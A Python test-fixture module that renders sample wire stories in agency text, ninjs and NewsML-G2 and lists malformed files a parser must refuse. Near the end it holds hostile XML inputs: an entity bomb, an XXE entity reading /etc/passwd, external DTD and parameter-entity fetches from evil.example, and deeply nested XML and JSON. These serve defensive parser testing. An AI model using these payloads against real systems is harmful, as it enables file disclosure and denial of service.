"""Wire copy in the three formats, written from plain values, for the hostile cases.

``Copy`` holds what a story says; ``agency_text``, ``ninjs`` and ``newsml`` write it
the way each format carries text (escaped as the format needs it), so the parsed
story holds exactly those values: ``parsed_values`` says what each format keeps.
Not every format can carry every field (agency text prints no tags and has no room
for markup in its dateline); ``CARRIES`` lists what each one does.
"""

import html
import json
from dataclasses import dataclass, replace
from xml.sax.saxutils import escape, quoteattr

SECOND_PARAGRAPH = "Second paragraph of the story."


@dataclass(frozen=True)
class Copy:
    headline: str = "Northern Sea Route traffic sets a record"
    dek: str = "Cargo passed 40 million tonnes."
    body: str = "Traffic on the route set a record this year."
    byline: str = "Anna Ivanova"
    place: str = "Vladivostok"
    caption: str = "An icebreaker leads a convoy"
    credit: str = "Yuri Smityuk/TASS"
    person: str = "Yuri Trutnev"
    subject: str = "Arctic"
    agency: str = "TASS"
    note: str = ""  # agency text: a stray line the parser leaves out with a note
    wire_id: str = "urn:newsml:tass.com:20261129:1001"
    version_created: str = "2026-11-29T09:30:00+03:00"
    embargo: str = ""
    photo_href: str = ""  # a picture file beside the input, placed in the story

    def but(self, **changes) -> "Copy":
        return replace(self, **changes)


CARRIES = {
    "agency-text": ["headline", "dek", "body", "caption", "credit", "note"],
    "ninjs": [
        *("headline", "dek", "body", "byline", "place", "caption", "credit"),
        *("person", "subject", "agency"),
    ],
    "newsml-g2": [
        *("headline", "dek", "body", "byline", "place", "caption", "credit"),
        *("person", "subject", "agency"),
    ],
}
FORMATS = list(CARRIES)


def agency_text(copy: Copy) -> bytes:
    """A scraped story page: headline, standfirst, a photo block, the dateline."""
    lines = [copy.headline, "", copy.dek]
    if copy.note:
        lines.append(copy.note)
    lines += [
        f"{copy.caption} {copy.credit}",  # the image's alt text, credit run on
        copy.caption,
        f"© {copy.credit}",
        "",
        f"VLADIVOSTOK, November 29, 2026. /TASS/. {copy.body}",
        "",
        SECOND_PARAGRAPH,
        "",
        "Tags",
    ]
    return "\n".join(lines).encode()


def ninjs(copy: Copy) -> bytes:
    """An IPTC ninjs 3.x text item with its picture as an association."""
    picture = {
        "name": "mainpic",
        "uri": copy.wire_id + ":picture",
        "type": "picture",
        "descriptions": [
            {"role": "caption", "contentType": "text/plain", "value": copy.caption},
            {"role": "creditline", "value": copy.credit},
        ],
    }
    if copy.photo_href:
        picture["renditions"] = [
            {"name": "original", "href": copy.photo_href, "contentType": "image/jpeg"}
        ]
    document = {
        "uri": copy.wire_id,
        "type": "text",
        "version": "1",
        "versionCreated": copy.version_created,
        "pubStatus": "usable",
        "copyrightHolder": copy.agency,
        "language": "en",
        "headlines": [{"role": "main", "value": copy.headline}],
        "descriptions": [
            {"role": "summary", "contentType": "text/plain", "value": copy.dek}
        ],
        "bodies": [
            {
                "role": "main",
                "contentType": "text/html",
                "value": f"<p>{html.escape(copy.body)}</p><p>{SECOND_PARAGRAPH}</p>",
            }
        ],
        "by": copy.byline,
        "located": copy.place,
        "people": [{"name": copy.person}],
        "subjects": [{"name": copy.subject}],
        "associations": [picture],
    }
    if copy.embargo:
        document["embargoedUntil"] = copy.embargo
    return json.dumps(document, ensure_ascii=False).encode()


def newsml(*copies: Copy) -> bytes:
    """A NewsML-G2 newsMessage: per story, its text item and a linked picture item."""
    items = "".join(_newsml_items(copy) for copy in copies)
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/">
  <header><sent>2026-11-29T10:00:00Z</sent></header>
  <itemSet>{items}</itemSet>
</newsMessage>
""".encode()


def _newsml_items(copy: Copy) -> str:
    e = escape
    picture = quoteattr(copy.wire_id + ":picture")
    embargo = f"<embargoed>{e(copy.embargo)}</embargoed>" if copy.embargo else ""
    rendition = (
        f'<contentSet><remoteContent rendition="rnd:highRes" '
        f"href={quoteattr(copy.photo_href)}/></contentSet>"
        if copy.photo_href
        else ""
    )
    return f"""
    <newsItem guid={quoteattr(copy.wire_id)} version="1" xml:lang="en">
      <itemMeta>
        <itemClass qcode="ninat:text"/>
        <provider><name>{e(copy.agency)}</name></provider>
        <versionCreated>{e(copy.version_created)}</versionCreated>
        {embargo}
        <link rel="irel:associatedWith" residref={picture}/>
      </itemMeta>
      <contentMeta>
        <located><name>{e(copy.place)}</name></located>
        <by>{e(copy.byline)}</by>
        <subject type="cpnat:abstract"><name>{e(copy.subject)}</name></subject>
        <subject type="cpnat:person"><name>{e(copy.person)}</name></subject>
        <headline>{e(copy.headline)}</headline>
        <description role="drol:summary">{e(copy.dek)}</description>
      </contentMeta>
      <contentSet>
        <inlineXML contenttype="application/xhtml+xml">
          <html xmlns="http://www.w3.org/1999/xhtml"><body>
            <p>{e(copy.body)}</p><p>{SECOND_PARAGRAPH}</p>
          </body></html>
        </inlineXML>
      </contentSet>
    </newsItem>
    <newsItem guid={picture} version="1">
      <itemMeta><itemClass qcode="ninat:picture"/></itemMeta>
      <contentMeta>
        <creditline>{e(copy.credit)}</creditline>
        <description role="drol:caption">{e(copy.caption)}</description>
      </contentMeta>
      {rendition}
    </newsItem>"""


WRITERS = {"agency-text": agency_text, "ninjs": ninjs, "newsml-g2": newsml}
SUFFIXES = {"agency-text": ".txt", "ninjs": ".json", "newsml-g2": ".xml"}


def write(fmt: str, copy: Copy) -> bytes:
    return WRITERS[fmt](copy)


def parsed_values(story) -> dict[str, str]:
    """What a parsed ``WireStory`` says for each field of ``Copy`` (by its name)."""
    photo = story.photos[0] if story.photos else None
    return {
        "headline": story.headline,
        "dek": story.dek,
        "body": story.paragraphs[0] if story.paragraphs else "",
        "byline": story.byline,
        "place": story.dateline_place,
        "caption": photo.caption if photo else "",
        "credit": photo.credit if photo else "",
        "person": story.people[0].name if story.people else "",
        "subject": story.subjects[0] if story.subjects else "",
        "agency": story.agency,
        "note": " ".join(story.unsure),
    }


def expected(fmt: str, copy: Copy, field: str) -> str:
    """What ``fmt`` keeps of ``copy``'s ``field`` as text.

    A place is read up to its first comma in ninjs and NewsML ("Tokyo, Japan" is a
    place and its region), so a value with a comma keeps its first part only.
    """
    value = getattr(copy, field)
    if field == "place":
        return value.split(",")[0].strip()
    if field == "note":
        return f"Not placed (between headline and dateline): “{value}”."
    return value


# ------------------------------------------------------------------ bad files
# Shared by the command's and the admin page's cases. Each refuses the whole file.

BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x">&lol3;</newsItem>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE newsItem [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x">&xxe;</newsItem>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE newsItem SYSTEM "http://evil.example/g2.dtd">
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x"/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE newsItem [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x"/>"""
SEED_TEXT = agency_text(Copy())
SEED_NINJS = ninjs(Copy())
SEED_NEWSML = newsml(Copy())
DEEP_XML = SEED_NEWSML.replace(b"<p>", b"<div>" * 5_000 + b"<p>", 1).replace(
    b"</p>", b"</p>" + b"</div>" * 5_000, 1
)
SAFETY = "refused for safety"
FORMAT_OF = {".txt": "agency-text", ".json": "ninjs", ".xml": "newsml-g2"}

# (case, file name, bytes, the reason printed after the file's name); the file's
# suffix names its format (FORMAT_OF).
BAD_FILES = [
    ("empty", "empty.txt", b"", "The file is empty."),
    ("blank", "blank.txt", b" \n\t\n", "The file is empty."),
    ("binary", "photo.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary file"),
    ("utf16-without-bom", "u16.txt", SEED_TEXT.decode().encode("utf-16-le"), "binary"),
    ("cp1251", "cp1251.txt", "Заголовок\n\nМОСКВА. /ТАСС/.".encode("cp1251"), "UTF-8"),
    (
        "latin1-in-utf8-xml",
        "l1.xml",
        SEED_NEWSML.replace(b"Vladivostok", b"V\xe9"),
        "not well-formed",
    ),
    (
        "unknown-encoding",
        "enc.xml",
        SEED_NEWSML.replace(b'"UTF-8"', b'"x-klingon"'),
        "unknown encoding",
    ),
    ("truncated-text", "cut.txt", SEED_TEXT[:60], "No dateline found"),
    ("truncated-json", "cut.json", SEED_NINJS[:200], "the file looks cut short"),
    ("truncated-xml", "cut.xml", SEED_NEWSML[:700], "The XML is not well-formed"),
    ("entity-bomb", "bomb.xml", BOMB, SAFETY),
    ("external-entity", "xxe.xml", XXE, SAFETY),
    ("external-dtd", "dtd.xml", EXTERNAL_DTD, SAFETY),
    ("parameter-entity", "pe.xml", PARAMETER_ENTITY, SAFETY),
    ("deep-xml", "deep.xml", DEEP_XML, "nests elements thousands deep"),
    (
        "deep-json",
        "deep.json",
        b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
        "nests too deeply",
    ),
    (
        "huge-number",
        "num.json",
        SEED_NINJS.replace(b'"1"', b"9" * 5_000, 1),
        "cannot be read",
    ),
    ("json-list", "list.json", b"[" + SEED_NINJS + b"]", "this is not one"),
    ("not-newsml", "page.xml", b"<html><body><p>Hi</p></body></html>", "not NewsML-G2"),
    (
        "picture-only-ninjs",
        "pic.json",
        b'{"uri": "urn:p", "type": "picture"}',
        "is a picture, not a story",
    ),
]
